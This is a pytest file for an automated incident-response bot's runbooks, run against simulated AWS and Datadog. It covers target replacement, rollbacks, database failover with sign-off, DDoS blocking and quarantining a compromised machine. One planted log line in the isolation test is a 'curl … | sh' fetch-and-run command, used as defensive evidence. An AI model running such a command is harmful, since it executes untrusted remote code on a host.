"""The shipped runbooks: each is read without a fault, recognises what it is for, and is run on the platform from end to end."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa

from bot.config import read_catalogue, unmatched
from bot.doubles import datadog
from bot.doubles.aws.gauges import ALARMS
from bot.doubles.troubles import ATTACKERS, MONITORS
from bot.errors import Refused
from bot.services.alert.triage import Case
from tests.catalogue_stage import (
    AT_NIGHT,
    LEA,
    PAUL,
    House,
    Night,
    day,
    night,
    night_on,
    only_declared,
    platform_server,
    shipped,
)
from tests.config_stage import TODAY, actions, example
from tests.tls_stage import Hosts, authority, tls

__all__ = ["authority", "day", "night", "platform_server", "tls"]

NAMES = {
    "api-latency", "bank-api-down", "certificate-expiring", "ddos-edge", "disk-filling", "ecs-crash-loop", "isolate-instance",
    "queue-backlog", "rds-failover", "right-size-cluster", "silent-probe", "unhealthy-target",
}
BY_THEMSELVES = {"ecs-crash-loop", "queue-backlog", "silent-probe", "unhealthy-target"}


# --- as files ---


def test_the_shipped_runbooks_are_read_without_a_fault_or_a_warning() -> None:
    shelf = read_catalogue(None, example(), actions(), TODAY)
    assert (shelf.faults, shelf.warnings) == ((), ())
    assert set(shipped().entries) == NAMES
    assert list(unmatched(example(), shipped())) == []


def test_only_what_harms_little_may_climb_to_run_by_itself() -> None:
    rungs = {name: each.runbook.automation for name, each in shipped().entries.items()}
    assert {name for name, rung in rungs.items() if rung == "automatic"} == BY_THEMSELVES
    assert rungs["isolate-instance"] == "manual"


def test_each_is_proven_by_other_eyes_than_those_of_the_alert() -> None:
    """Bridge's CloudWatch or probes tell; Padok's Datadog, or a look from outside, proves."""
    for name, entry in shipped().entries.items():
        proofs = [(each.uses, each.with_.get("organisation")) for each in entry.runbook.verify]
        assert ("datadog.monitor_state", "padok") in proofs or "http.certificate" in dict(proofs), name


CLAIMED = {
    "pay-api-unhealthy-hosts": "unhealthy-target", "pay-api-5xx": "api-latency", "pay-api-latency-p95": "api-latency",
    "pay-db-connections": "rds-failover", "pay-db-cpu": None, "pay-db-free-storage": "disk-filling",
    "batch-worker-queue-age": "queue-backlog", "ledger-running-tasks": "ecs-crash-loop", "bank-sync-errors": "bank-api-down",
    "edge-requests": "ddos-edge", "edge-4xx-rate": "ddos-edge", "cluster-cpu": None,
    "pay-api answers with errors": "api-latency", "pay-api answers slowly": "api-latency",
    "pay-api target unhealthy": "unhealthy-target", "batch-worker queue is old": "queue-backlog",
    "ledger answers with errors": "ecs-crash-loop", "pay-db takes no writes": "rds-failover", "edge answers slowly": "ddos-edge",
    "bank-sync gets no answer from the bank": "bank-api-down", "Bank API answers slowly": "bank-api-down",
    "CertificateExpiresSoon": "certificate-expiring",
}


def test_each_alarm_and_monitor_of_the_platform_is_recognised_by_its_runbook() -> None:
    services = {**dict.fromkeys(("Bank API answers slowly",), "bank-sync"), **MONITORS}
    found = {}
    for name in CLAIMED:
        service = services.get(name) or example().service_of(None, name)
        claim = shipped().claims(Case("cloudwatch", service, "high", name, {}))
        found[name] = claim.runbook.name if claim else None
    assert found == CLAIMED
    assert {each.name for each in ALARMS} | set(MONITORS) <= set(CLAIMED)


# --- at 02:14 a target goes unhealthy ---


@pytest.fixture
def anywhere(engine: sa.Engine, platform_server: House) -> Night:
    """The night on both databases."""
    return night_on(engine, platform_server, AT_NIGHT)


def test_a_sick_target_is_replaced_and_the_alert_closed_while_everybody_sleeps(anywhere: Night) -> None:
    night = anywhere
    night.trust("unhealthy-target")
    night.platform.break_("unhealthy target")
    (victim,) = night.platform.aws.elbv2.ill
    night.live(30)
    fix, proof = night.runs()
    assert (fix.state, fix.actor, fix.mode) == ("succeeded", "vigie", "automatic")
    assert (proof.state, proof.purpose) == ("succeeded", "proof")
    assert night.steps(fix)["find"].outputs["target"] == victim  # type: ignore[index]
    assert night.calls() == [
        ("elbv2", "DeregisterTargets"), ("autoscaling", "TerminateInstanceInAutoScalingGroup"), ("elbv2", "RegisterTargets")]
    assert {each.session for each in night.changed()} == {"vigie-run1"}
    for alert in (night.alert(1), night.alert(2)):
        assert (alert.state, alert.closed_by, alert.ending, alert.called_at) == ("closed", "vigie", "fixed", None)
    assert night.noted("person called") == [] and "\"pay-api target unhealthy\" is OK" in (night.alert().proof or "")
    only_declared(night)


def test_what_the_other_company_still_sees_is_not_fixed_and_somebody_is_called(night: Night) -> None:
    night.trust("unhealthy-target")
    night.platform.break_("unhealthy target")
    night.platform.accounts["padok"].monitors.set("pay-api target unhealthy", "Alert", "probe:padok-1")
    night.live(40)
    fix = night.runs()[0]
    assert fix.state == "failed" and "Not proven: Padok's probe says OK" in (fix.said or "")
    assert night.calls()[-1] == ("elbv2", "RegisterTargets"), "a fix that is not proven is kept"
    assert night.alert().state != "closed" and night.noted("person called")


# --- the API is slow ---


def test_a_sick_machine_is_rebooted_and_brought_back(day: Night) -> None:
    day.platform.break_("unhealthy target")
    run = day.run("api-latency", alert=day.alert(), target_group="pay-api")
    assert run.state == "succeeded", run.said
    assert day.calls() == [("elbv2", "DeregisterTargets"), ("ec2", "RebootInstances"), ("elbv2", "RegisterTargets")]
    assert {each.session for each in day.changed()} == {"alice-run1"}
    only_declared(day)


def test_a_machine_that_cannot_be_rebooted_is_replaced(day: Night) -> None:
    day.platform.break_("unhealthy target")
    day.platform.aws.faults.refuse("ec2", "RebootInstances")
    run = day.run("api-latency")
    assert run.state == "succeeded", run.said
    assert day.states(run)["reboot"] == "failed" and day.states(run)["join"] == "done"
    assert ("autoscaling", "TerminateInstanceInAutoScalingGroup") in day.calls()


def test_when_no_machine_is_sick_the_group_gets_one_more_after_a_yes(day: Night) -> None:
    run = day.run("api-latency")
    assert run.state == "succeeded", run.said
    asked = day.steps(run)["more"]
    assert (asked.plan or "").startswith("would set desired capacity of pay-api from 4 to 5")
    assert [each.params["DesiredCapacity"] for each in day.changed()] == [5]
    assert [each.actor for each in day.noted("approval signed")] == ["paul"]


# --- tasks die ---


def test_a_service_goes_back_when_its_new_version_dies(night: Night) -> None:
    night.trust("ecs-crash-loop")
    night.platform.break_("crash loop")
    night.live(40)
    run = night.runs()[0]
    assert run.state == "succeeded" and run.target == "ecs:payments/ledger", run.said
    assert [each.params["taskDefinition"].rsplit("/", 1)[-1] for each in night.changed()] == ["ledger:1"]
    assert night.alert().ending == "fixed" and night.noted("person called") == []
    only_declared(night)


def test_a_service_whose_version_is_old_is_only_restarted(day: Night) -> None:
    day.pass_time(2 * 86_400)
    day.platform.aws.ecs.crash("payments/bank-sync")
    for _ in range(15):
        day.pass_time(20)
        day.platform.aws.client("ecs").list_clusters()
    run = day.run("ecs-crash-loop", service="bank-sync")
    assert run.state == "succeeded", run.said
    assert [each.params.get("forceNewDeployment") for each in day.changed()] == [True]


# --- the database ---


def test_the_standby_takes_over_once_for_padok_at_night_with_a_standing_signature(anywhere: Night) -> None:
    night = anywhere
    night.agree()
    night.platform.break_("hanging database")
    run = night.run("rds-failover", LEA, night.alert())
    assert run.state == "succeeded", run.said
    assert night.calls() == [("rds", "CreateDBSnapshot"), ("rds", "RebootDBInstance")]
    assert {each.session for each in night.changed()} == {"lea-run1"}
    assert night.changed()[1].tags == {"run": "1", "organisation": "padok", "alert": "1"}
    database = night.platform.aws.client("rds").describe_db_instances()["DBInstances"][0]
    assert database["AvailabilityZone"] == "eu-west-3b" and run.mandate == "nights §2 fail the database over"
    assert "DatabaseConnections.png" in night.files(run)
    only_declared(night)


def test_a_lost_answer_of_the_failover_leads_to_no_second_one(day: Night) -> None:
    day.platform.break_("hanging database")
    day.platform.aws.faults.lose("rds", "RebootDBInstance")
    run = day.run("rds-failover")
    assert run.state == "succeeded", run.said
    assert day.calls().count(("rds", "RebootDBInstance")) == 1


def test_no_failover_begins_without_a_mandate_or_after_a_no(day: Night) -> None:
    day.platform.break_("hanging database")
    with pytest.raises(Refused, match="nights"):
        day.start("rds-failover", LEA, day.alert())
    day.answers[2] = "the bank is in the middle of a batch"
    run = day.run("rds-failover")
    assert run.state == "failed" and "in the middle of a batch" in (run.said or "")
    assert day.calls() == [("rds", "CreateDBSnapshot")]


def test_a_database_that_fills_gets_more_room(day: Night) -> None:
    aws, few, much = day.platform.aws, 4 * 1024 ** 3, 24 * 1024 ** 3
    room = {"DBInstanceIdentifier": "pay-db"}
    aws.cloudwatch.feed("AWS/RDS", "FreeStorageSpace", room, lambda _: few)
    aws.cloudwatch.set_alarm("pay-db-free-storage", "ALARM")

    def grown(_params: Any) -> None:
        aws.cloudwatch.feed("AWS/RDS", "FreeStorageSpace", room, lambda _: much)
        aws.cloudwatch.set_alarm("pay-db-free-storage", "OK")

    aws.when("rds", "ModifyDBInstance", grown)
    run = day.run("disk-filling")
    assert run.state == "succeeded", run.said
    assert [each.params["AllocatedStorage"] for each in day.changed()] == [120]
    with pytest.raises(Refused, match="at most 50"):
        day.start("disk-filling", percent="80")
    only_declared(day)


# --- the queue ---


def test_a_stuck_worker_is_replaced_and_the_queue_empties(night: Night) -> None:
    night.trust("queue-backlog")
    night.platform.break_("queue backlog")
    night.live(40)
    run = night.runs()[0]
    assert run.state == "succeeded" and night.calls() == [("ecs", "StopTask")], run.said
    assert night.states(run)["more"] == "pending" and night.alert().ending == "fixed"
    only_declared(night)


def test_a_queue_that_stays_old_gets_one_worker_more_up_to_a_limit(day: Night) -> None:
    aws, queue = day.platform.aws, {"QueueName": "batch-jobs"}
    aws.cloudwatch.feed("AWS/SQS", "ApproximateAgeOfOldestMessage", queue, lambda _: 742.0)
    aws.when("ecs", "UpdateService", lambda _: aws.cloudwatch.feed(
        "AWS/SQS", "ApproximateAgeOfOldestMessage", queue, lambda _: 12.0))
    limited = day.run("queue-backlog", at_most="2")
    assert limited.state == "failed" and "batch-worker would have 3 tasks; this step may give it 2" in (limited.said or "")
    run = day.run("queue-backlog")
    assert run.state == "succeeded", run.said
    assert day.calls() == [("ecs", "StopTask"), ("ecs", "StopTask"), ("ecs", "UpdateService")]
    assert day.changed()[2].params["desiredCount"] == 3 and day.states(run)["empties"] == "failed"


# --- certificates ---


@pytest.fixture
def today(sqlite_engine: sa.Engine, platform_server: House) -> Night:
    """Early afternoon of the real day: TLS knows no other time, and everybody may be asked."""
    return night_on(sqlite_engine, platform_server, datetime.now(UTC).replace(hour=13))


def lasting(today: Night, **length: float) -> timedelta:
    """How long a certificate must hold from now on to hold so long by the clock of Vigie."""
    return today.clock.now() - datetime.now(UTC) + timedelta(**length)


def test_a_certificate_is_renewed_and_seen(today: Night, tls: Hosts) -> None:
    port = tls(lasting(today, days=6, hours=1))
    today.platform.aws.when("ssm", "StartAutomationExecution", lambda _: tls.renew(port, lasting(today, days=90, hours=1)))
    run = today.run("certificate-expiring", host="127.0.0.1", port=port)
    assert run.state == "succeeded", run.said
    assert today.calls() == [("ssm", "StartAutomationExecution")] and today.states(run)["person"] == "pending"
    page = today.files(run)["certificate.txt"].decode()
    assert "Days left before    6" in page and "Host                127.0.0.1" in page
    again = today.run("certificate-expiring", host="127.0.0.1", port=port)
    assert again.state == "succeeded" and len(today.calls()) == 1, "renewed meanwhile: nothing is to be done"
    only_declared(today)


def test_when_the_renewal_fails_a_person_is_asked(today: Night, tls: Hosts) -> None:
    port = tls(lasting(today, days=6))
    today.platform.aws.ssm.fail("pay-renew-certificate", "the authority does not answer")
    asked = today.carry_on_to("person", today.start("certificate-expiring", host="127.0.0.1", port=port))
    assert "could not be renewed by itself" in (today.steps(asked)["person"].plan or "")
    tls.renew(port, lasting(today, days=90))
    assert today.carry_on(asked).state == "succeeded"


# --- the edge ---


def test_the_loudest_addresses_are_kept_out_for_an_hour_and_let_in_again(day: Night) -> None:
    day.platform.break_("attack at the edge")
    run = day.run("ddos-edge", alert=day.alert())
    assert run.state == "succeeded", run.said
    assert [sorted(each.params["Addresses"]) for each in day.changed()] == [sorted(f"{each}/32" for each in ATTACKERS), []]
    first, last = day.changed()
    assert last.at - first.at >= timedelta(hours=1) and day.calls() == [("wafv2", "UpdateIPSet")] * 2
    assert "RU" in (day.steps(run)["traffic"].said or "")
    only_declared(day)


def test_countries_are_kept_out_where_no_address_is_loud_and_let_in_again(day: Night) -> None:
    day.platform.break_("attack at the edge")
    for number, each in enumerate(day.platform.aws.wafv2.sampled):
        each["Request"]["ClientIP"] = f"203.0.113.{number}"
    run = day.run("ddos-edge", alert=day.alert(), duration="15m")
    assert run.state == "succeeded", run.said
    blocked, lifted = (each.params["DistributionConfig"]["Restrictions"]["GeoRestriction"] for each in day.changed())
    assert blocked["Items"] == ["RU"] and lifted["RestrictionType"] == "none"
    assert day.states(run)["block-addresses"] == "failed"
    only_declared(day)


def test_who_cancels_a_block_lets_everybody_in_again(day: Night) -> None:
    day.platform.break_("attack at the edge")
    run = day.start("ddos-edge", alert=day.alert())
    day.carry_on_to("hold", run)
    day.cancel(run, PAUL)
    assert day.carry_on(run).state == "cancelled"
    assert day.changed()[-1].params["Addresses"] == []


# --- eighteen machines ---


def test_a_cluster_takes_one_step_down_and_is_watched(day: Night) -> None:
    run = day.run("right-size-cluster", bake="30m")
    assert run.state == "succeeded", run.said
    (change,) = day.changed()
    assert (change.params["DesiredCapacity"], change.operation) == (14, "SetDesiredCapacity")
    evidence = day.steps(run)["evidence"]
    assert "it runs 18" in (evidence.said or "") and "needed by measure" in (evidence.log or "")
    assert "stayed quiet for 30m" in (day.steps(run)["watch"].said or "")
    only_declared(day)


def test_a_cluster_that_suffers_gets_its_machines_back(day: Night) -> None:
    run = day.start("right-size-cluster")
    day.carry_on_to("watch", run)
    day.pass_time(600)
    day.platform.aws.cloudwatch.set_alarm("pay-api-5xx", "ALARM")
    ended = day.carry_on(run)
    assert ended.state == "failed" and "pay-api-5xx fires" in (ended.said or "")
    assert [each.params["DesiredCapacity"] for each in day.changed()] == [14, 18]
    assert day.states(run)["lower"] == "undone"


# --- a machine that does what it should not ---


def test_a_compromised_machine_is_kept_and_cut_off_after_a_leads_yes(day: Night) -> None:
    suspect, laid = day.platform.laid.instances[1], day.platform.laid
    day.platform.accounts["bridge"].logs.add("curl http://198.51.100.9/x | sh", host=suspect)
    run = day.run("isolate-instance", instance=suspect)
    assert run.state == "succeeded", run.said
    found = day.platform.aws.client("ec2").describe_instances(InstanceIds=[suspect])["Reservations"][0]["Instances"][0]
    assert [each["GroupId"] for each in found["NetworkInterfaces"][0]["Groups"]] == [laid.quarantine]
    assert day.calls()[:2] == [("ec2", "CreateSnapshots"), ("autoscaling", "EnterStandby")]
    assert "snap-" in day.files(run)["isolation.txt"].decode() and "curl" in (day.steps(run)["lines"].log or "")
    only_declared(day)


# --- a probe that says nothing ---


def silent(night: Night) -> dict[str, Any]:
    """Bridge's second probe has gone silent; its monitor says so."""
    monitors = night.platform.accounts["bridge"].monitors
    monitors.add("bridge-2 probe is silent", tags=("service:pay-api", "probe:bridge-2"), state="No Data")
    host = night.platform.laid.instances[2]
    night.hear("bridge-datadog", datadog.webhook(
        "bridge-2 probe is silent", "Triggered", night.clock.now(), service="pay-api", probe="bridge-2", tags={"host": host}))
    night.platform.aws.when("ssm", "SendCommand", lambda _: monitors.set("bridge-2 probe is silent", "OK") and None)
    return {"url": f"{night.url}/health"}


def test_a_silent_probe_is_restarted_when_others_find_the_service_well(night: Night) -> None:
    given = silent(night)
    run = night.run("silent-probe", alert=night.alert(), **given)
    assert run.state == "succeeded", run.said
    assert [each.params["InstanceIds"] for each in night.changed()] == [[night.platform.laid.instances[2]]]
    (event,) = night.platform.accounts["bridge"].events.all
    assert event.title == "Agent of bridge-2 restarted" and "probe:bridge-2" in event.tags
    only_declared(night)


# --- the bank ---


def test_while_the_bank_is_down_evidence_is_kept_noise_muted_and_the_regulator_told(day: Night) -> None:
    account = day.platform.accounts["bridge"]
    account.monitors.add("statements are late", tags=("service:ledger", "depends-on:bank"))
    account.logs.add("no answer from the bank", service="bank-sync", status="error")
    day.platform.break_("bank down")
    day.pass_time(60)
    run = day.run("bank-api-down", alert=day.alert(), url=f"{day.url}/bank")
    assert run.state == "succeeded", run.said
    pages = {name: each.decode() for name, each in day.files(run).items()}
    assert set(pages) == {"bank-api-down.txt", "bank-api-back.txt"}
    assert "Lines of errors in the logs           1" in pages["bank-api-down.txt"]
    (downtime,) = account.downtimes.by_id.values()
    assert downtime.scope == "depends-on:bank" and downtime.end is not None
    assert day.states(run)["regulator"] == "done" and day.calls() == []
    only_declared(day)


# --- where a runbook does not fit ---


def test_where_a_runbook_does_not_fit_nothing_is_changed(night: Night) -> None:
    for each in night.platform.laid.instances[:2]:
        night.platform.aws.elbv2.sicken(each)
    assert "2 targets of pay-api are unhealthy" in failed(night, "unhealthy-target")
    assert "0 tasks of ledger died" in failed(night, "ecs-crash-loop", service="ledger")

    probe = silent(night)
    night.outside.health = 503
    assert "answered 503 instead of 200" in failed(night, "silent-probe", **probe)
    night.platform.accounts["padok"].monitors.set("pay-api answers with errors", "Alert", "probe:padok-1")
    assert "\"pay-api answers with errors\" is Alert" in failed(night, "silent-probe", **probe)

    bank = night.run("bank-api-down", url=f"{night.url}/bank")
    assert bank.state == "succeeded" and night.states(bank)["quiet"] == "pending", "it answers: it is not the fault"
    assert night.calls() == [] and night.files(bank) == {}


def failed(night: Night, runbook: str, **given: Any) -> str:
    """Why it failed."""
    run = night.run(runbook, alert=night.alert() if runbook == "silent-probe" else None, **given)
    assert run.state == "failed", run.said
    return run.said or ""
